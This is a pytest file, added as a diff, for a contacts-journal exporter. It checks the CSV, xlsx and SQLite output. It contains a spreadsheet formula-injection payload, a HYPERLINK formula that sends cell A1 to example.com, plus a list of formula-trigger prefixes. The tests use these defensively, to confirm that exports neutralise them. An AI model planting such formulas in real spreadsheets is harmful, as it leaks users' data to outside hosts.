@@ -1,0 +1,140 @@
+"""The old list as CSV and as a workbook, and the journal as a database."""
+
+import csv
+import io
+import json
+import re
+import sqlite3
+import zipfile
+from datetime import date
+from pathlib import Path
+from typing import Any
+
+import pytest
+from conftest import MakeJournal
+from python_calamine import CalamineWorkbook
+from small_journal import SmallJournal
+
+from generator.model.fields import Items, schema
+from generator.model.json_schema import RECORDS
+
+HOSTILE = '=HYPERLINK("http://example.com/?"&A1,"click")'
+WORLD = {
+    "profile.md": "---\nname: Me\ntargets: [acme]\n---\n",
+    "contacts/ana.md": f"---\nname: '{HOSTILE}'\nphone: [+49 30 1234, '@home']\nemail: a@example.org\n"
+    "company: Acme\nbond: 'a, \"b\"'\npersonal: {pet: a cat}\noutreach: [2026-11-02 email replied 2026-11-03]\n"
+    "x_shelf: [top]\n---\n\nHello.\n",
+    "contacts/ben.md": "---\nname: Ben\nintroduced_by: [ana, a ghost]\nmet_on: 2026-01-05\n---\n",
+    "meetings/m.md": "---\ndate: 2026-11-20 15:00\nwith: [ana, nobody]\nduration: 1 h\nevent: mixer\n"
+    "thanks: [email 2026-11-21 to ana]\nintroductions: [Chi Ng]\nasked_for_introductions: yes\n---\n\n## Notes\n\nX.\n",
+    "events/mixer.md": "---\nname: Mixer\ndate: 0999-05-01\nmet: [Stranger]\n---\n",
+    "updates/u.md": "---\ndate: 2026-06-01\nsubject: New\nto: [tag:mentors, ana]\ntold: [all 2026-06-02]\n---\n",
+}
+FORMULAS = ("=1+1", "+1", "-1", "@SUM(1)", "\t=1", "＝1")
+
+
+def rows(small: SmallJournal) -> list[dict[str, str]]:
+    result = small.run("export", "csv")
+    assert (result.exit_code, result.stderr) == (0, "")
+    return list(csv.DictReader(io.StringIO(result.stdout_bytes.decode(), newline="")))
+
+
+def workbook(small: SmallJournal) -> tuple[bytes, Any]:
+    data = small.run("export", "xlsx").stdout_bytes
+    return data, CalamineWorkbook.from_filelike(io.BytesIO(data))
+
+
+def database(data: bytes) -> sqlite3.Connection:
+    base = sqlite3.connect(":memory:")
+    base.deserialize(data)
+    return base
+
+
+def test_csv_is_the_list_of_people_with_what_is_owed_next(journal: MakeJournal) -> None:
+    ana, ben = rows(journal(WORLD))
+    assert ana["Name"] == f"'{HOSTILE}"
+    assert (ana["Phone"], ana["Email"], ana["Company"]) == ("'+49 30 1234; @home", "a@example.org", "Acme")
+    assert (ana["First met"], ana["Last contact"], ana["In common"]) == ("2026-11-20", "2026-11-21", 'a, "b"')
+    assert (ana["Next owed"].split()[0], ana["Due"]) == ("Connect", "2026-11-20")
+    assert (ben["Introduced by"], ben["First met"], ben["Last contact"]) == (f"'{HOSTILE}", "2026-01-05", "")
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_what_looks_like_a_formula_stays_text(journal: MakeJournal, text: str) -> None:
+    small = journal({"contacts/a.md": f"---\nname: A\nrole: {json.dumps(text)}\n---\n"})
+    shown = rows(small)[0]["Role"]
+    # A blank before it is no part of the text, and what is left is a formula again.
+    assert shown.startswith("'")
+    data, book = workbook(small)
+    assert str(book.get_sheet_by_name("Contacts").to_python()[1][3]).strip() == text.strip()
+    with zipfile.ZipFile(io.BytesIO(data)) as parts:
+        sheets = [parts.read(name).decode() for name in parts.namelist() if "worksheets" in name]
+    assert not any(re.search(r"<f[ >]|<hyperlink", sheet) for sheet in sheets)
+
+
+def test_a_workbook_has_every_table_and_days_are_days(journal: MakeJournal) -> None:
+    _, book = workbook(journal(WORLD))
+    assert book.sheet_names == ["Contacts", "Meetings", "Companies", "Events", "What I owe"]
+    heads, ana, _ = book.get_sheet_by_name("Contacts").to_python()
+    assert ana[0] == HOSTILE
+    assert ana[heads.index("First met")] == date(2026, 11, 20)
+    meeting = dict(zip(*book.get_sheet_by_name("Meetings").to_python(), strict=True))
+    assert (meeting["Date"], meeting["Time"], meeting["With"]) == (date(2026, 11, 20), "15:00", f"{HOSTILE}; nobody")
+    assert (meeting["Status"], meeting["Names I was given"]) == ("held", "Chi Ng")
+    assert book.get_sheet_by_name("Events").to_python()[1][0] == "0999-05-01"  # a year that workbooks don't know
+
+
+def test_what_is_too_long_for_a_cell_is_cut_and_says_so(journal: MakeJournal) -> None:
+    _, book = workbook(journal({"contacts/a.md": f"---\nname: A\nrole: {'x' * 40_000}\n---\n"}))
+    role = book.get_sheet_by_name("Contacts").to_python()[1][3]
+    assert (len(role), role[-1]) == (32_767, "…")
+
+
+def test_csv_in_a_folder_is_a_file_for_each_table(journal: MakeJournal, tmp_path: Path) -> None:
+    small = journal(WORLD)
+    assert small.run("export", "csv", "-o", f"{tmp_path}/list/").exit_code == 0
+    names = {path.name for path in (tmp_path / "list").iterdir()}
+    assert names == {"contacts.csv", "meetings.csv", "companies.csv", "events.csv", "owed.csv"}
+    assert (tmp_path / "list/contacts.csv").read_bytes() == small.run("export", "csv").stdout_bytes
+
+
+def test_a_database_keeps_its_references(journal: MakeJournal) -> None:
+    base = database(journal(WORLD).run("export", "sqlite").stdout_bytes)
+    assert base.execute("PRAGMA foreign_key_check").fetchall() == []
+    assert base.execute("PRAGMA integrity_check").fetchall() == [("ok",)]
+    ask = base.execute
+    assert ask("SELECT name, company, stage, extra FROM contacts ORDER BY slug").fetchall() == [
+        (HOSTILE, "acme", "met", '{"x_shelf": ["top"]}'), ("Ben", None, "known", None),
+    ]  # fmt: skip
+    assert ask("SELECT value, value_as_written FROM contacts_introduced_by").fetchall() == [
+        ("ana", None),
+        (None, "a ghost"),
+    ]
+    assert ask("SELECT value, value_as_written FROM meetings_with ORDER BY position").fetchall() == [
+        ("ana", None), (None, "nobody"),
+    ]  # fmt: skip
+    assert ask("SELECT status, duration, event, asked_for_introductions FROM meetings").fetchone() == (
+        "held",
+        60,
+        "mixer",
+        1,
+    )
+    sent = 'SELECT "by", "on", value FROM meetings_thanks JOIN meetings_thanks_to ON meetings_thanks_to."of" = id'
+    assert ask(sent).fetchall() == [("email", "2026-11-21", "ana")]
+    assert ask("SELECT value_as_written FROM updates_told_who").fetchall() == [("all",)]
+    assert ask("SELECT name, value FROM contacts_personal").fetchall() == [("pet", "a cat")]
+
+
+def test_a_database_has_a_place_for_every_field(journal: MakeJournal) -> None:
+    base = database(journal({}).run("export", "sqlite").stdout_bytes)
+    found = base.execute(
+        "SELECT m.name, p.name FROM sqlite_master m JOIN pragma_table_info(m.name) p WHERE m.type = 'table'"
+    )
+    columns = set(found.fetchall())
+    tables = {table for table, _ in columns}
+    for kind, record in RECORDS.items():
+        table = record.FOLDER or kind
+        for name, spec in schema(record).items():
+            is_table = f"{table}_{name}" in tables
+            assert is_table or (table, name) in columns, f"{table}.{name}"
+            assert is_table or not (spec.many or isinstance(spec.type, Items))
